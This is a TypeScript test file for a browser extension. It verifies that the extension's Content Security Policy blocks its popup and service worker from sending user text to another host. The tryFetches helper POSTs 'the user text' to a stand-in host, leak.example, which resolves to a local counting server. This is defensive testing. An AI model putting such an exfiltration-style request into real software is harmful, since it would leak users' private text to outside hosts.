/**
 * "No text leaves the machine" is enforced by the browser where it can be:
 * the extension pages' CSP allows only our own files, this computer over
 * plain http and https hosts (a model server the user may configure; with the
 * default settings no code path fetches at all, see docs/ARCHITECTURE.md), so
 * even our own code (or a bug in a dependency) cannot send a request from an
 * extension page to a plain-http host elsewhere. The target is a host that is
 * not this computer (leak.example, resolved to a local server that counts
 * what reaches it): a CSP-blocked request never does, while a request the CSP
 * allowed would (a web page's does).
 */
import type { IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, type Harness } from './harness';

let h: Harness;
const reached: string[] = [];
/** Not this computer as far as the extension can tell; the browser resolves it to the counting server. */
const LEAK_HOST = 'leak.example';
const leakUrl = (from: string) => `http://${LEAK_HOST}:${h.server!.port}/leak?from=${from}`;

beforeAll(async () => {
  h = await launch({
    allowHosts: [LEAK_HOST],
    hostResolverRules: `MAP ${LEAK_HOST} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost`,
    routes: [
      (req: IncomingMessage, res) => {
        if (!req.url?.startsWith('/leak')) return false;
        reached.push(req.url);
        res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
        res.end('leaked');
        return true;
      },
    ],
  });
});
afterAll(async () => {
  await h?.close();
});

/** Runs in the extension context: tries a remote fetch and a fetch of our own file. */
async function tryFetches(leakUrl: string): Promise<{ remote: string; own: number }> {
  let remote: string;
  try {
    const response = await fetch(leakUrl, { method: 'POST', body: 'the user text' });
    remote = `fetched ${response.status}`;
  } catch (error) {
    remote = `blocked: ${(error as Error).name}`;
  }
  const own = (await fetch('/models/abstract-gpt/config.json')).status;
  return { remote, own };
}

describe('extension pages cannot send text to another host over plain http', () => {
  it('the popup can read its own files but not fetch another origin', async () => {
    const popup = await h.openExtensionPage('popup.html');
    const result = await popup.evaluate(tryFetches, leakUrl('popup'));
    expect(result.own).toBe(200);
    expect(result.remote).toMatch(/^blocked/);
    await popup.close();
  });

  it('neither can the service worker', async () => {
    const result = await h.evalInWorker(tryFetches, leakUrl('worker'));
    expect(result.own).toBe(200);
    expect(result.remote).toMatch(/^blocked/);
  });

  it('no request reached the server, and the check itself can see one that is allowed', async () => {
    expect(reached).toEqual([]);
    // A web page (no extension CSP) reaches the same URL: the counter works.
    const page = await h.openPage('textarea.html');
    await page.evaluate((url) => fetch(url).then((r) => r.text()), leakUrl('page'));
    expect(reached).toEqual(['/leak?from=page']);
    await page.close();
    h.assertNoExternalRequests();
  });
});
